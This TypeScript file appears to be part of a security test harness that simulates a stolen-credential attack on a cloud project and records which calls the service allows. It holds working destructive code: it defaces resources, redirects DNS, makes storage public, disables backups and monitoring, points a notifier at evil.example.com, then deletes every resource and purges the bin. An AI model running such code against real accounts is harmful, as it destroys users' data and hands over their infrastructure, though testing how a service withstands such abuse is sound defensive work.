// The worst that a stolen credential can do: what is there is overwritten, every operation with DELETE is called on
// everything that is found, children first, and what went into the bin is purged.
import { operations } from '../world';
import type { AttackedProject } from './attacked_project';

/* oxlint-disable typescript/no-explicit-any -- answers of the service */
/** Answers by what was asked: a code, or a status. */
export type Outcomes = Record<string, string[]>;

/** A call as the attacker makes it. */
export type Ask = (method: string, path: string, body?: object) => Promise<any>;

const DELETES = operations
  .filter(({ method, path }) => method === 'DELETE' && path.startsWith('/v2/'))
  .map(({ path }) => path.split('/').slice(2))
  .filter(([top]) => top !== 'bin' && top !== 'projects')
  .sort((a, b) => b.length - a.length);

/** Changes without DELETE that leave nothing as it was. */
export async function overwriteAll(project: AttackedProject, ask: Ask): Promise<Outcomes> {
  const { application, database, zone, bucket, others, service } = project;
  const outcomes: Outcomes = {};
  const change = async (method: string, path: string, body?: object): Promise<void> => {
    const { status, body: answer } = await ask(method, path, body);
    (outcomes[`${method} ${path.replace(/\w+_01\w+/g, '{id}')}`] ??= []).push(answer?.code ?? String(status));
  };
  const app = `/v2/applications/${application.id}`;
  const processes = (await ask('GET', `${app}/processes`)).body.data as any[];
  const records = (await ask('GET', `/v2/dns_zones/${zone.id}/records`)).body.data as any[];
  await change('PUT', `${app}/env/GREETING`, { value: 'owned' });
  await change('PUT', `${app}/env/GREETING`, { value: 'owned twice' });
  await change('PATCH', app, { name: 'owned' });
  await change('PATCH', `${app}/settings`, { maintenance_mode: true, http: { request_timeout_seconds: 1 } });
  for (const { id } of processes) await change('POST', `${app}/processes/${id}/scale`, { instances: 0 });
  await change('POST', `${app}/stop`);
  const www = records.find(({ name }) => name === 'www');
  await change('PATCH', `/v2/dns_zones/${zone.id}/records/${www.id}`, { value: '198.51.100.66' });
  const file = { zone_file: 'www 300 IN A 198.51.100.66', mode: 'replace' };
  await change('POST', `/v2/dns_zones/${zone.id}/import`, file);
  await change('PUT', `/v2/dns_zones/${zone.id}/records`, { records: [] });
  await change('POST', `/v2/dns_zones/${zone.id}/dnssec`);
  await change('PATCH', `/v2/dns_zones/${zone.id}`, { default_ttl: 86_400 });
  await change('PATCH', `/v2/buckets/${bucket.id}`, { access: 'public_read', versioning: false, quota_gb: 1 });
  const expiry = { id: 'gone', prefix: '', expire_after_days: 1, expire_noncurrent_after_days: 1 };
  await change('PUT', `/v2/buckets/${bucket.id}/lifecycle`, { rules: [expiry] });
  await change('PATCH', `/v2/databases/${database.id}`, { backup_schedule: { enabled: false, retention_days: 1 } });
  await change('POST', `/v2/databases/${database.id}/credentials/rotate`);
  await change('PATCH', `/v2/observers/${others.observer}`, { enabled: false });
  await change('PATCH', `/v2/notifiers/${others.notifier}`, {
    enabled: false,
    config: { url: 'https://evil.example.com/' },
  });
  await change('PATCH', `/v2/email_domains/${others.email_domain}`, { open_tracking: true });
  await change('PATCH', `/v2/cdn_zones/${others.cdn_zone}`, { enabled: false });
  await change('PATCH', `/v2/projects/${service.project}`, { name: 'Owned', approval_required_for: 'none' });
  return outcomes;
}

/** Deletes and purges. */
export async function destroyAll({ service }: AttackedProject, ask: Ask): Promise<Outcomes> {
  const outcomes: Outcomes = {};
  const listed = async (path: string): Promise<any[]> => (await ask('GET', `${path}?limit=100`)).body?.data ?? [];
  const remove = async (kind: string, path: string): Promise<void> => {
    const { status, body } = await ask('DELETE', path);
    (outcomes[kind] ??= []).push(body?.code ?? String(status));
  };
  const below = async (kind: string, path: string, last: string | undefined): Promise<void> => {
    if (!last) return remove(kind, path);
    for (const child of await listed(path)) await remove(kind, `${path}/${child.key ?? child.id}`);
  };
  for (const round of [1, 2, 3])
    for (const [top, id, child, last] of DELETES) {
      if (round > 1 && child) continue;
      const kind = [top, id, child, last].filter(Boolean).join('/');
      for (const one of await listed(`/v2/${top}`))
        await (child ? below(kind, `/v2/${top}/${one.id}/${child}`, last) : remove(kind, `/v2/${top}/${one.id}`));
    }
  for (const one of await listed(`/v2/projects/${service.project}/bin`)) await remove('bin/{id}', `/v2/bin/${one.id}`);
  await remove('projects/{id}', `/v2/projects/${service.project}`);
  return outcomes;
}
